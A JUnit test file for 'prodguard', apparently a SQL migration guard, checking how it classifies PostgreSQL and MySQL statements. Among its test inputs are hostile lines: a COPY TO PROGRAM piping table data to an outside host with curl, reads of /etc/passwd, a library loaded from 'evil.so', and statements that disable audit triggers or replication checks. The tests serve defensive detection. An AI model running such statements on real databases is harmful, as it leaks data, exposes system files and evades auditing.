package dev.prodguard.sql;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

@DisplayName("G4: statements become operations with their targets")
class G4ClassifierTest {

  /** Every operation of every statement, the statements in order (routines carry over). */
  static List<String> ops(SqlSyntax syntax, String sql) {
    SourceFile f = new SourceFile("V1__t.sql", sql);
    Classifier c = new Classifier(syntax);
    Routines routines = new Routines();
    return new Splitter(syntax)
        .split(f).stream()
            .flatMap(s -> c.classify(s, routines).stream())
            .map(Operation::toString)
            .toList();
  }

  static String pg(String sql) {
    return String.join("; ", ops(SqlSyntax.POSTGRESQL, sql));
  }

  static String mysql(String sql) {
    return String.join("; ", ops(SqlSyntax.MYSQL, sql));
  }

  @ParameterizedTest(name = "G4: PostgreSQL {0}")
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          DROP TABLE IF EXISTS app.a, "B" CASCADE | drop-table app.a [CASCADE]; drop-table B [CASCADE]
          TRUNCATE a | truncate a
          DELETE FROM ONLY a WHERE x IN (SELECT 1) | delete a [HAS_WHERE]
          UPDATE a AS t SET x = 1, y = (SELECT 2 WHERE true) | update a [x, y]
          INSERT INTO ${schema}.seed (id, name) VALUES (1, 'a') | insert seed [id, name]
          ALTER TABLE a ADD COLUMN b int NOT NULL DEFAULT 0, ALTER COLUMN c TYPE text | add-column a.b [NOT_NULL, HAS_DEFAULT]; alter-column-type a.c
          ALTER TABLE a ALTER c DROP NOT NULL | drop-not-null a.c
          ALTER TABLE a ADD CONSTRAINT f FOREIGN KEY (x) REFERENCES b (id) NOT VALID | add-constraint a [NOT_VALID, FOREIGN_KEY]
          ALTER TABLE a ADD PRIMARY KEY USING INDEX a_pk | add-constraint a [UNIQUE_OR_PRIMARY, USING_INDEX]
          CREATE UNIQUE INDEX CONCURRENTLY i ON a (x) | create-index a [CONCURRENTLY]
          DROP INDEX CONCURRENTLY i | drop-index [CONCURRENTLY]
          CREATE TABLE IF NOT EXISTS t (id int) | create-table t [IF_EXISTS]
          GRANT SELECT ON TABLE a TO r | grant a
          WITH d AS (DELETE FROM logs RETURNING id) INSERT INTO archive SELECT * FROM d | delete logs; insert archive
          EXPLAIN ANALYZE DELETE FROM a | delete a
          EXPLAIN SELECT 1 | select
          DO $$ BEGIN IF true THEN TRUNCATE a; END IF; END $$ | do-block; truncate a [IN_BODY]
          CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $f$ DECLARE n int := 1; BEGIN FOR r IN SELECT 1 LOOP UPDATE b SET x = 1; END LOOP; END $f$ | create-function f; select [IN_BODY, DEFERRED]; update b [x] [IN_BODY, DEFERRED]
          CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM a WHERE id = 1; END | create-function p; delete a [HAS_WHERE, IN_BODY, DEFERRED]
          PREPARE q AS DELETE FROM a | delete a
          COPY a (x) FROM stdin | copy-in a
          MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN DELETE | delete a [HAS_WHERE]
          UPSERT INTO a (x) VALUES (1) | insert a
          CREATE AGGREGATE mysum (int) (SFUNC = int4pl, STYPE = int) | create-other mysum
          CREATE EXTENSION IF NOT EXISTS pgcrypto | create-other pgcrypto
          CREATE EVENT TRIGGER audit_ddl ON ddl_command_start EXECUTE FUNCTION f() | create-other audit_ddl
          CREATE OR REPLACE TRIGGER t AFTER INSERT ON a FOR EACH ROW EXECUTE PROCEDURE suppress_redundant_updates_trigger() | create-trigger a
          ALTER TEXT SEARCH CONFIGURATION c OWNER TO r | alter-other c
          DROP FOREIGN DATA WRAPPER IF EXISTS w | drop-other w
          SELECT * FROM t TABLESAMPLE SYSTEM (10) REPEATABLE (1) | select
          SET search_path TO app | set-session search_path
          CALL refresh_all() | call refresh_all [OPAQUE]
          """)
  void postgres(String sql, String expected) {
    assertThat(pg(sql)).isEqualTo(expected.strip());
  }

  @ParameterizedTest(name = "G4: MySQL {0}")
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          DROP SCHEMA legacy | drop-database legacy
          ALTER TABLE `o` ADD INDEX idx (a), DROP INDEX old | create-index o; drop-index o
          ALTER TABLE o ADD (a INT NOT NULL, b INT) | add-column o.a [NOT_NULL]; add-column o.b
          DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id | delete t1
          REPLACE INTO t (a) VALUES (1) | insert t [a]; delete t [HAS_WHERE]
          /*!40101 SET NAMES utf8 */ | set-session names
          LOAD DATA LOCAL INFILE 'x' INTO TABLE t | copy-in t; unknown
          CREATE DEFINER = `root`@`%` PROCEDURE p() BEGIN UPDATE a SET x = 1; END | create-function p; update a [x] [IN_BODY, DEFERRED]
          CREATE TRIGGER tr BEFORE INSERT ON a FOR EACH ROW SET NEW.x = 1 | create-trigger a; set-session new.x [IN_BODY, DEFERRED]
          BEGIN NOT ATOMIC DELETE FROM a; END | do-block; delete a [IN_BODY]
          CREATE OR REPLACE ALGORITHM = UNDEFINED DEFINER = 'root'@'%' SQL SECURITY DEFINER VIEW v AS SELECT 1 | create-view v
          ALTER ALGORITHM = MERGE DEFINER = CURRENT_USER() VIEW v AS SELECT 2 | alter-other v
          CREATE AGGREGATE FUNCTION agg(x INT) RETURNS INT BEGIN RETURN 1; END | create-function agg
          CREATE PROCEDURE IF NOT EXISTS `p`() BEGIN DELETE FROM t WHERE id = 1; END; CALL `p`() | create-function p; delete t [HAS_WHERE, IN_BODY, DEFERRED]; call p; delete t [HAS_WHERE, IN_BODY]
          """)
  void mysql(String sql, String expected) {
    assertThat(mysql(sql)).isEqualTo(expected.strip());
  }

  // ---- issue 12, part 5: statements judged by their first keyword -----------------------------

  @ParameterizedTest(name = "G4: a data-changing part is found wherever it sits: {0}")
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          CREATE TABLE grab AS WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d | create-table grab; delete orders; select
          CREATE TABLE IF NOT EXISTS grab (id) AS SELECT id FROM orders | create-table grab [IF_EXISTS]; select
          CREATE MATERIALIZED VIEW mv AS WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d | create-view mv; delete orders; select
          CREATE VIEW v AS SELECT * FROM orders | create-view v
          EXPLAIN ANALYZE WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d | delete orders; select
          EXPLAIN (ANALYZE, BUFFERS) CREATE TABLE g AS WITH d AS (UPDATE orders SET v = 1 RETURNING *) SELECT * FROM d | create-table g; update orders [v]; select
          WITH a AS (SELECT 1), d AS (DELETE FROM orders WHERE true RETURNING *) INSERT INTO archive SELECT * FROM d | select; delete orders; insert archive
          SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d) x | select; delete orders; select
          INSERT INTO t (WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d) | insert t; delete orders; select
          UPDATE t SET v = 1 FROM (WITH d AS (DELETE FROM orders RETURNING id) SELECT id FROM d) q WHERE t.id = q.id AND q.id > 10 | delete orders; select; update t [v] [HAS_WHERE]
          COPY (DELETE FROM orders RETURNING *) TO STDOUT | select; delete orders
          (WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d) | select; delete orders; select
          PREPARE q AS WITH d AS (DELETE FROM orders RETURNING *) SELECT 1 | delete orders; select
          MERGE INTO orders USING (SELECT 1 AS x) s ON true WHEN MATCHED THEN DELETE | delete orders
          MERGE INTO o USING s ON o.id = s.id WHEN MATCHED AND s.gone THEN DELETE WHEN MATCHED THEN UPDATE SET v = s.v, w = CASE WHEN s.w THEN 1 END WHEN NOT MATCHED THEN INSERT (id, v) VALUES (s.id, s.v) | delete o [HAS_WHERE]; update o [v, w] [HAS_WHERE]; insert o [id, v]
          MERGE INTO o USING s ON true WHEN MATCHED AND 1 = 1 THEN UPDATE SET v = 1 WHEN NOT MATCHED THEN DO NOTHING | update o [v]
          MERGE INTO o USING s ON 1 = 1 AND NOT false WHEN NOT MATCHED BY SOURCE THEN DELETE | delete o
          MERGE INTO o USING (SELECT 1 AS id) s ON o.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE | delete o
          MERGE INTO o USING s ON o.id = s.id WHEN MATCHED THEN RENAME | unknown
          CREATE RULE wipe AS ON INSERT TO orders DO ALSO DELETE FROM orders | create-rule orders; delete orders [DEFERRED]
          CREATE OR REPLACE RULE r AS ON UPDATE TO a WHERE old.x > 0 DO INSTEAD (UPDATE b SET x = 1 WHERE id = old.id) | create-rule a; update b [x] [HAS_WHERE, DEFERRED]
          CREATE RULE r AS ON DELETE TO a DO INSTEAD NOTHING | create-rule a
          """)
  void foundWhereverItSits(String sql, String expected) {
    assertThat(pg(sql)).isEqualTo(expected.strip());
  }

  @ParameterizedTest(name = "G4: a call runs the routine''s body: {0}")
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          CREATE FUNCTION wipe() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM orders; END $$; SELECT wipe() | create-function wipe; delete orders [IN_BODY, DEFERRED]; select; function-call wipe; delete orders [IN_BODY]
          CREATE FUNCTION wipe() RETURNS int LANGUAGE sql AS $$ DELETE FROM orders RETURNING 1 $$; INSERT INTO log VALUES (1, app.wipe()) | create-function wipe; delete orders [IN_BODY, DEFERRED]; insert log; function-call app.wipe; delete orders [IN_BODY]
          CREATE FUNCTION a() RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM b(); END $$; CREATE FUNCTION b() RETURNS void LANGUAGE sql AS $$ TRUNCATE orders $$; SELECT 1 FROM t WHERE a() IS NULL | create-function a; function-call b [IN_BODY, DEFERRED, OPAQUE]; create-function b; truncate orders [IN_BODY, DEFERRED]; select; function-call a; truncate orders [IN_BODY]
          CREATE FUNCTION r() RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM r(); DELETE FROM t WHERE id = 1; END $$; SELECT r() | create-function r; function-call r [IN_BODY, DEFERRED]; delete t [HAS_WHERE, IN_BODY, DEFERRED]; select; function-call r; delete t [HAS_WHERE, IN_BODY]
          CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN UPDATE orders SET v = 1; COMMIT; END $$; CALL p() | create-function p; update orders [v] [IN_BODY, DEFERRED]; transaction [IN_BODY, DEFERRED]; call p; update orders [v] [IN_BODY]; transaction [IN_BODY]
          CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM orders; END $$; DROP FUNCTION f(); SELECT f() | create-function f; delete orders [IN_BODY, DEFERRED]; drop-function f; select; function-call f [OPAQUE]
          DO $$ BEGIN PERFORM purge_everything(); END $$ | do-block; function-call purge_everything [IN_BODY, OPAQUE]
          SELECT purge_orders() | select; function-call purge_orders [OPAQUE]
          SELECT setval('orders_id_seq', 42), nextval('s'), now(), coalesce(max(id), 0) FROM orders | select; alter-other orders_id_seq [RESTARTS_SEQUENCE]
          SELECT pg_catalog.setval('orders_id_seq', (SELECT max(id) FROM orders)) | select; alter-other orders_id_seq
          SELECT app.setval('orders_id_seq', 1) | select; function-call app.setval [OPAQUE]
          SELECT uuid_generate_v4(), crypt('pw', gen_salt('bf')), ST_AsText(ST_SetSRID(g, 4326)) FROM t | select
          DO $$ BEGIN IF (SELECT count(*) FROM t) > 0 THEN PERFORM 1; ELSIF (true) THEN NULL; END IF; END $$ | do-block
          SELECT n FROM generate_series(1, 3) AS g(n), unnest(ARRAY[1]) u(x) TABLESAMPLE bernoulli (10) | select
          SELECT x::numeric(10, 2), CAST(y AS varchar(20)), count(*) FILTER (WHERE z) OVER (PARTITION BY w) FROM t | select
          SELECT query_to_xml('select wipe()', true, false, '') | select; dynamic-sql
          CREATE TRIGGER t BEFORE INSERT ON a FOR EACH ROW EXECUTE FUNCTION stamp() | create-trigger a; function-call stamp [DEFERRED, OPAQUE]
          CREATE TRIGGER t BEFORE UPDATE ON a FOR EACH ROW EXECUTE FUNCTION suppress_redundant_updates_trigger() | create-trigger a
          """)
  void callsAreFollowed(String sql, String expected) {
    assertThat(pg(sql)).isEqualTo(expected.strip());
  }

  @ParameterizedTest(name = "G4: what prodguard cannot fully read is unknown: {0}")
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          CREATE WIDGET x | unknown
          ALTER WIDGET x SET y = 1 | unknown
          DROP WIDGET x | unknown
          CREATE OR REPLACE TEMP WIDGET x | unknown
          COPY orders TO PROGRAM 'curl -d @- https://example.com' | unknown
          COPY orders FROM PROGRAM 'cat /etc/passwd' | unknown
          COPY orders FROM '/var/lib/postgresql/orders.csv' | unknown
          COPY (SELECT * FROM orders) TO '/tmp/orders.csv' | select; select; unknown
          SELECT lo_import('/etc/passwd') | select; unknown
          LOAD 'auto_explain' | unknown
          START SLAVE | unknown
          """)
  void unknownWhenNotFullyRead(String sql, String expected) {
    assertThat(pg(sql)).isEqualTo(expected.strip());
  }

  @ParameterizedTest(name = "G4: what prodguard cannot fully read is unknown (MySQL): {0}")
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          CREATE WIDGET x | unknown
          LOAD DATA INFILE '/var/lib/mysql-files/x.csv' INTO TABLE t | unknown
          SELECT * FROM orders INTO OUTFILE '/tmp/orders.csv' | select; unknown
          SELECT LOAD_FILE('/etc/passwd') | select; unknown
          CREATE FUNCTION f RETURNS STRING SONAME 'evil.so' | create-function f; dynamic-sql
          SET STATEMENT max_statement_time = 1 FOR DELETE FROM orders | delete orders
          SET @n = purge_orders(), @m = 1 | set-session @n; function-call purge_orders [OPAQUE]; set-session @m
          CREATE PROCEDURE p() BEGIN DECLARE EXIT HANDLER FOR SQLEXCEPTION BEGIN ROLLBACK; END; START TRANSACTION; DELETE FROM t WHERE id = 1; COMMIT; END | create-function p; transaction [IN_BODY, DEFERRED]; transaction [IN_BODY, DEFERRED]; delete t [HAS_WHERE, IN_BODY, DEFERRED]; transaction [IN_BODY, DEFERRED]
          """)
  void unknownWhenNotFullyReadMysql(String sql, String expected) {
    assertThat(mysql(sql)).isEqualTo(expected.strip());
  }

  @ParameterizedTest(name = "G4: a WHERE that holds for every row is no WHERE: {0}")
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          DELETE FROM orders WHERE true | delete orders
          DELETE FROM orders WHERE 1=1 | delete orders
          DELETE FROM orders WHERE 1 | delete orders
          DELETE FROM orders WHERE 'a'='a' | delete orders
          DELETE FROM orders WHERE 'true' | delete orders
          DELETE FROM orders WHERE NOT false | delete orders
          DELETE FROM orders WHERE x = x | delete orders
          DELETE FROM orders o WHERE o.id = o.id RETURNING * | delete orders
          DELETE FROM orders WHERE x IS NOT DISTINCT FROM x | delete orders
          DELETE FROM orders WHERE (1 = 1) OR false | delete orders
          DELETE FROM orders WHERE id = 7 OR true | delete orders
          DELETE FROM orders WHERE id IS NOT NULL OR 1=1 | delete orders
          DELETE FROM orders WHERE 2 > 1 AND NOT (1 <> 1) | delete orders
          DELETE FROM orders WHERE NULL IS NULL | delete orders
          DELETE FROM orders WHERE id IN (SELECT id FROM old WHERE true) | delete orders
          UPDATE orders SET v = 1 WHERE TRUE = TRUE | update orders [v]
          UPDATE orders SET v = 1 WHERE 1 >= 1 RETURNING id | update orders [v]
          """)
  void alwaysTrueWhere(String sql, String expected) {
    assertThat(pg(sql)).isEqualTo(expected.strip());
  }

  @ParameterizedTest(name = "G4: a WHERE that depends on the row is a WHERE: {0}")
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          DELETE FROM orders WHERE id = 1 | delete orders [HAS_WHERE]
          DELETE FROM orders WHERE 1 = 1 AND id = 2 | delete orders [HAS_WHERE]
          DELETE FROM orders WHERE id IS NOT NULL | delete orders [HAS_WHERE]
          DELETE FROM orders WHERE x = y | delete orders [HAS_WHERE]
          DELETE FROM orders WHERE x <> x | delete orders [HAS_WHERE]
          DELETE FROM orders WHERE 1 = 2 | delete orders [HAS_WHERE]
          DELETE FROM orders WHERE false | delete orders [HAS_WHERE]
          DELETE FROM orders WHERE NULL | delete orders [HAS_WHERE]
          DELETE FROM orders WHERE 1 = 1 + id | delete orders [HAS_WHERE]
          DELETE FROM orders WHERE id BETWEEN 1 AND 10 | delete orders [HAS_WHERE]
          DELETE FROM orders WHERE 'a' = 'b' AND status = 'x' | delete orders [HAS_WHERE]
          DELETE FROM orders WHERE CASE WHEN a OR true THEN b END | delete orders [HAS_WHERE]
          DELETE FROM orders WHERE id IN (SELECT old.id FROM old WHERE true) | delete orders [HAS_WHERE]
          DELETE FROM orders WHERE CURRENT OF c | delete orders [HAS_WHERE]
          """)
  void realWhere(String sql, String expected) {
    assertThat(pg(sql)).isEqualTo(expected.strip());
  }

  @ParameterizedTest(name = "G4: a WHERE that holds for every row is no WHERE (MySQL): {0}")
  @CsvSource(
      delimiterString = "~>",
      textBlock =
          """
          DELETE FROM orders WHERE 1 ~> delete orders
          DELETE FROM orders WHERE '1abc' ~> delete orders
          DELETE FROM orders WHERE id = 3 || 1 ~> delete orders
          DELETE FROM orders WHERE x <=> x LIMIT 10 ~> delete orders
          DELETE FROM orders WHERE "a" = "a" ~> delete orders
          DELETE FROM orders WHERE 'abc' ~> delete orders [HAS_WHERE]
          DELETE FROM orders WHERE id = 3 && 1 ~> delete orders [HAS_WHERE]
          """)
  void alwaysTrueWhereMysql(String sql, String expected) {
    assertThat(mysql(sql)).isEqualTo(expected.strip());
  }

  // ---- issue 12, part 3: transaction control inside a migration -------------------------------

  @ParameterizedTest(name = "G7: transaction control is recognised: {0}")
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          COMMIT; ALTER TYPE kind ADD VALUE 'x'; BEGIN | transaction; alter-other kind; transaction
          END | transaction
          ROLLBACK TO SAVEPOINT a | transaction
          START TRANSACTION | transaction
          SAVEPOINT a; RELEASE SAVEPOINT a | transaction; transaction
          ABORT | transaction
          PREPARE TRANSACTION 'x'; COMMIT PREPARED 'x' | transaction; transaction
          SET TRANSACTION ISOLATION LEVEL SERIALIZABLE | transaction
          SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY | transaction
          DO $$ BEGIN UPDATE a SET x = 1 WHERE id = 2; COMMIT; END $$ | do-block; update a [x] [HAS_WHERE, IN_BODY]; transaction [IN_BODY]
          SET lock_timeout = '5s' | set-session lock_timeout
          """)
  void transactionControl(String sql, String expected) {
    assertThat(pg(sql)).isEqualTo(expected.strip());
  }

  @ParameterizedTest(name = "G7: transaction control is recognised (MySQL): {0}")
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          SET autocommit = 1 | transaction
          SET @@session.autocommit = 0, sql_mode = '' | transaction; unknown; set-session sql_mode
          SET SESSION TRANSACTION ISOLATION LEVEL READ COMMITTED | transaction
          XA START 'x' | transaction
          BEGIN WORK | transaction
          BEGIN NOT ATOMIC COMMIT; END | do-block; transaction [IN_BODY]
          """)
  void transactionControlMysql(String sql, String expected) {
    assertThat(mysql(sql)).isEqualTo(expected.strip());
  }

  // ---- issue 12, part 5: prodguard's own objects ----------------------------------------------

  @ParameterizedTest(name = "G10: prodguard''s own objects are named by what touches them: {0}")
  @CsvSource(
      delimiterString = "=>",
      textBlock =
          """
          SET session_replication_role = replica; DELETE FROM prodguard_audit => set-session session_replication_role; delete prodguard_audit
          SET LOCAL session_replication_role TO replica => set-session session_replication_role
          SELECT set_config('session_replication_role', 'replica', false) => select; set-session session_replication_role
          UPDATE database_metadata SET fingerprint = 'prod-0' WHERE id = 1 => update database_metadata [fingerprint] [HAS_WHERE]
          DELETE FROM app.flyway_schema_history WHERE version = '3' => delete app.flyway_schema_history [HAS_WHERE]
          ALTER TABLE "prodguard_audit" DISABLE TRIGGER ALL => alter-table-other prodguard_audit
          ALTER EVENT TRIGGER prodguard_ddl_guard DISABLE => alter-other prodguard_ddl_guard
          DROP TRIGGER prodguard_audit_append_only ON orders => drop-trigger orders; reference prodguard_audit_append_only
          CREATE OR REPLACE FUNCTION prodguard_assert_deploy() RETURNS void LANGUAGE sql AS $$ SELECT 1 $$ => create-function prodguard_assert_deploy; select [IN_BODY, DEFERRED]
          DO $$ BEGIN EXECUTE 'TRUNCATE ' || 'prodguard_run'; END $$ => do-block; dynamic-sql [IN_BODY]; reference prodguard_run
          SELECT count(*) FROM prodguard_session => select; reference prodguard_session
          -- prodguard_audit is mentioned only in this comment\\nSELECT 1 => select
          """)
  void prodguardObjects(String sql, String expected) {
    assertThat(pg(sql.replace("\\n", "\n"))).isEqualTo(expected.strip());
  }

  @Test
  @DisplayName("G4: a -- comment ended by a bare CR hides nothing on PostgreSQL (issue 12)")
  void carriageReturnComments() {
    assertThat(ops(SqlSyntax.POSTGRESQL, "-- tidy up\rDROP TABLE orders;\n"))
        .containsExactly("drop-table orders");
    assertThat(ops(SqlSyntax.POSTGRESQL, "-- tidy up\rTRUNCATE orders;\n"))
        .containsExactly("truncate orders");
    assertThat(ops(SqlSyntax.POSTGRESQL, "DO $$ BEGIN -- note\rDROP TABLE orders; END $$;\n"))
        .containsExactly("do-block", "drop-table orders [IN_BODY]");
    assertThat(
            ops(
                SqlSyntax.POSTGRESQL,
                "CREATE FUNCTION wipe() RETURNS void LANGUAGE plpgsql AS $$\nBEGIN\n"
                    + "  -- keep\rDELETE FROM orders;\nEND $$;\n"))
        .containsExactly("create-function wipe", "delete orders [IN_BODY, DEFERRED]");
  }

  @Test
  @DisplayName("G4: MariaDB's non-nesting and executable comments hide nothing (issue 12)")
  void mariaDbComments() {
    assertThat(ops(SqlSyntax.MYSQL, "/* /* */ DROP TABLE t; */\n"))
        .containsExactly("drop-table t", "unknown");
    assertThat(ops(SqlSyntax.MYSQL, "/*!99999 DROP TABLE t */;\n")).containsExactly("drop-table t");
    assertThat(ops(SqlSyntax.MYSQL, "/*M!100000 TRUNCATE t */;\n")).containsExactly("truncate t");
    assertThat(ops(SqlSyntax.MYSQL, "SELECT 1 --1;\nDELETE FROM t;\n"))
        .containsExactly("select", "delete t");
  }

  @Test
  @DisplayName("G4: a statement prodguard cannot read as the server does is unknown, with where")
  void refusedStatementsAreUnknown() {
    SourceFile f = new SourceFile("V1__t.sql", "SELECT 1;\nDROP\u00a0TABLE t;\n");
    Classifier c = new Classifier(SqlSyntax.POSTGRESQL);
    List<Operation> ops =
        new Splitter(SqlSyntax.POSTGRESQL)
            .split(f).stream().flatMap(s -> c.classify(s).stream()).toList();
    assertThat(ops.get(1).kind()).isEqualTo(OpKind.UNKNOWN);
    assertThat(ops.get(1).detail()).contains("U+00A0", "line 2, column 5");
  }
}
